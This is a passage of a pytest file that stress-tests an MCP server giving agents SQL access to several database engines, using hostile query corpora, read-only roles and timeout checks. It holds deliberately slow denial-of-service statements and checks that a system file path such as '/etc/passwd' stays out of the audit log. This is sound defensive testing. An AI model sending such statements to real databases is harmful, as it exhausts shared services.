    if engine == "duckdb":
        duckdb = pytest.importorskip("duckdb")
        path = folder / "shop.duckdb"
        con = duckdb.connect(str(path))
        con.execute("CREATE SEQUENCE ids START 1000")
        con.execute("CREATE TABLE customers(id INTEGER PRIMARY KEY, email TEXT)")
        con.execute("INSERT INTO customers SELECT i, 'u' || i || '@example.com' FROM range(50) t(i)")
        con.close()
        return Scene(engine, str(path), path.read_bytes, home, canary, outside)
    psycopg = pytest.importorskip("psycopg")
    from psycopg.conninfo import conninfo_to_dict

    dsn: str = request.getfixturevalue("pg_dsn")
    parts = conninfo_to_dict(dsn)
    name = f"hostile_{uuid.uuid4().hex[:10]}"
    with psycopg.connect(dsn, autocommit=True) as admin:
        admin.execute(f"CREATE SCHEMA {name}")
        admin.execute(f"SET search_path = {name}")
        admin.execute(PG_SETUP)
        # The role docs/agents.md asks for: SELECT on the tables, nothing else.
        admin.execute(f"CREATE ROLE {name} LOGIN")
        admin.execute(f"GRANT USAGE ON SCHEMA {name} TO {name}")
        admin.execute(f"GRANT SELECT ON ALL TABLES IN SCHEMA {name} TO {name}")

    def state() -> Any:
        with psycopg.connect(dsn, autocommit=True, options=f"-c search_path={name}") as con:
            return con.execute(PG_STATE).fetchone()

    def drop() -> None:
        with psycopg.connect(dsn, autocommit=True) as admin:
            admin.execute(f"DROP SCHEMA {name} CASCADE")
            admin.execute(f"DROP OWNED BY {name}")
            admin.execute(f"DROP ROLE {name}")

    request.addfinalizer(drop)
    options = quote(f"-c search_path={name}")
    uri = f"postgresql://{name}@{parts['host']}:{parts['port']}/{parts['dbname']}?options={options}"
    return Scene(engine, uri, state, home, canary, outside, db_port=int(parts["port"]), admin_dsn=dsn)


def make_mysql_scene(reader: bool, home: Path, canary: Canary, outside: str, request: pytest.FixtureRequest) -> Scene:
    """The customers table in a fresh database on the session's MariaDB; the tool connects as root, or
    (``reader``) as the account docs/agents.md asks for: SELECT on this database, nothing else."""
    pymysql = pytest.importorskip("pymysql")
    params: dict[str, Any] = request.getfixturevalue("mariadb_params")
    name = f"hostile_{uuid.uuid4().hex[:10]}"

    def admin() -> Any:
        return pymysql.connect(**params, autocommit=True, connect_timeout=5)

    with admin() as con, con.cursor() as cur:
        cur.execute(f"CREATE DATABASE {name}")
        cur.execute(f"CREATE TABLE {name}.customers (id INT PRIMARY KEY, email VARCHAR(40) NOT NULL)")
        rows = [(i, f"u{i}@example.com") for i in range(1, 51)]
        cur.executemany(f"INSERT INTO {name}.customers VALUES (%s, %s)", rows)
        cur.execute("SELECT @@datadir")
        folder = Path(cur.fetchone()[0]) / name
        if reader:
            cur.execute(f"CREATE USER '{name}'@'127.0.0.1' IDENTIFIED BY 'pw' WITH MAX_USER_CONNECTIONS 4")
            cur.execute(f"GRANT SELECT ON `{name}`.* TO '{name}'@'127.0.0.1'")

    def state() -> Any:
        with admin() as con, con.cursor() as cur:
            cur.execute(
                f"SELECT (SELECT MD5(GROUP_CONCAT(id, email ORDER BY id)) FROM {name}.customers), "
                f"(SELECT GROUP_CONCAT(table_name ORDER BY table_name) FROM information_schema.tables "
                f"WHERE table_schema = '{name}'), @@GLOBAL.max_connections, @@GLOBAL.read_only"
            )
            return (cur.fetchone(), sorted(os.listdir(folder)))

    def after_call(where: str) -> None:  # another connection opens; no named lock outlived the call
        with admin() as con, con.cursor() as cur:
            cur.execute("SELECT IS_FREE_LOCK('hostile'), @@GLOBAL.max_connections")
            assert cur.fetchone()[0] == 1, (where, "a named lock outlived the call")

    def drop() -> None:
        with admin() as con, con.cursor() as cur:
            cur.execute(f"DROP DATABASE {name}")
            if reader:
                cur.execute(f"DROP USER '{name}'@'127.0.0.1'")

    request.addfinalizer(drop)
    user = f"{name}:pw" if reader else str(params["user"])
    uri = f"mysql://{user}@{params['host']}:{params['port']}/{name}"
    scene = Scene("mysql", uri, state, home, canary, outside, db_port=int(params["port"]), privileged=not reader)
    scene.after_call = after_call
    return scene


LIMITS = (DEFAULT_MAX_CHARS, DEFAULT_MAX_ROWS)
"""The server runs with the default limits."""

STATS: dict[str, dict[str, Any]] = {}
"""Per engine, the largest growth and the slowest call seen, printed at the end of each test (-s)."""


def record(engine: str, calls: list[Call]) -> None:
    hostile = [call for call in calls if call.sql != HEALTH]
    slowest = max(hostile, key=lambda call: call.seconds)
    largest = max(hostile, key=lambda call: call.growth)
    entry = STATS.setdefault(engine, {"seconds": 0.0, "growth": 0, "calls": 0})
    entry["calls"] += len(hostile)
    if slowest.seconds > entry["seconds"]:
        entry.update(seconds=slowest.seconds, slow_sql=slowest.sql[:60])
    if largest.growth > entry["growth"]:
        entry.update(growth=largest.growth, large_sql=largest.sql[:60])
    print(f"\n{engine}: {entry}")


def played(server: Server, scene: Scene, listing: dict[str, list[str]], play: Callable[[], None], label: str) -> None:
    """``play()`` (a corpus's calls on ``server``), then ``finish``'s checks; however it ends, the server
    is closed and its calls recorded under ``label``."""
    try:
        play()
        finish(server, scene, listing)
    finally:
        if server.process.poll() is None:
            server.close()
        record(label, server.calls)


ENGINES = [
    pytest.param("sqlite", False, id="sqlite"),
    pytest.param("sqlite", True, id="sqlite-read-only"),
    pytest.param("duckdb", False, id="duckdb"),
    pytest.param("duckdb", True, id="duckdb-read-only"),
    pytest.param("postgres", False, id="postgres"),
    pytest.param("mysql", False, id="mariadb"),
    pytest.param("mysql-reader", False, id="mariadb-reader"),
]


@pytest.mark.parametrize(("engine", "read_only"), ENGINES)
def test_hand_written_corpus_through_the_mcp_server(
    engine: str, read_only: bool, tmp_path: Path, canary: Canary, request: pytest.FixtureRequest
) -> None:
    scene = make_scene(engine, tmp_path, canary, request)
    server = Server(
        scene.target, scene.home, read_only=read_only, db_port=scene.db_port, allow_privileged=scene.privileged
    )
    listing = scene.listing()

    def corpus() -> None:
        for template in CORPUS[scene.engine]:
            check_call(server, scene, scene.fill(template), LIMITS)

    played(server, scene, listing, corpus, scene.engine)
    # Every path in this corpus is inside a string literal, which the audit log hides (in the generated
    # soups a lone quote can leave one outside, where the engine does not read it as a string either).
    logged = server.log.read_text(encoding="utf-8")
    assert scene.outside not in logged and "/etc/passwd" not in logged


@pytest.mark.parametrize("engine", ["sqlite", "duckdb", "postgres", "mysql"])
def test_generated_corpus_through_the_mcp_server(
    engine: str, tmp_path: Path, canary: Canary, request: pytest.FixtureRequest
) -> None:
    scene = make_scene(engine, tmp_path, canary, request)
    server = Server(scene.target, scene.home, db_port=scene.db_port, allow_privileged=scene.privileged)
    listing = scene.listing()

    words = WORDS + MYSQL_WORDS if engine == "mysql" else WORDS

    @settings(max_examples=12, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(st.sampled_from(words), min_size=1, max_size=10).map(" ".join))
    def soup(template: str) -> None:
        check_call(server, scene, scene.fill(template), LIMITS)

    played(server, scene, listing, soup, engine)


SLOW = {
    "sqlite": "SELECT instr(printf('%.*c', 999000, 'a'), printf('%.*c', 250000, 'a') || 'b')",
    "duckdb": "SELECT count(*) FROM range(100000000000)",
    "postgres": "SELECT pg_sleep(30)",
    "mysql": "SELECT SLEEP(30)",
}


@pytest.mark.parametrize("engine", ["sqlite", "duckdb", "postgres", "mysql"])
def test_calls_arriving_together_are_each_answered_within_their_limit(
    engine: str, tmp_path: Path, canary: Canary, request: pytest.FixtureRequest
) -> None:
    """a21 through the MCP server: four slow statements and a benign one at once; each answered within
    TIMEOUT + SLACK of its own request (the benign one served or refused), and the next call is served."""
    scene = make_scene(engine, tmp_path, canary, request)
    server = Server(scene.target, scene.home, db_port=scene.db_port, allow_privileged=scene.privileged)
    try:
        with PaceMeter() as meter:  # the machine's pace while the server kills and restarts workers
            answers = server.pipeline([SLOW[engine]] * 4 + [HEALTH])
        for answer, seconds in answers:
            assert "result" in answer and within(seconds, TIMEOUT, SLACK, meter.pace), (seconds, meter.pace, answer)
        benign = answers[-1][0]["result"]
        # Served, or refused (busy, a new worker still starting, or a timeout when it got the worker with
        # little of its limit left): never after the others' limits added up.
        assert not benign.get("isError") or benign["content"][0]["text"].startswith("Refused: "), benign
        health = server.query(HEALTH)
        assert not health.is_error and within(health.seconds, TIMEOUT, SLACK), (health.seconds, health.text)
    finally:
        if server.process.poll() is None:
            server.close()
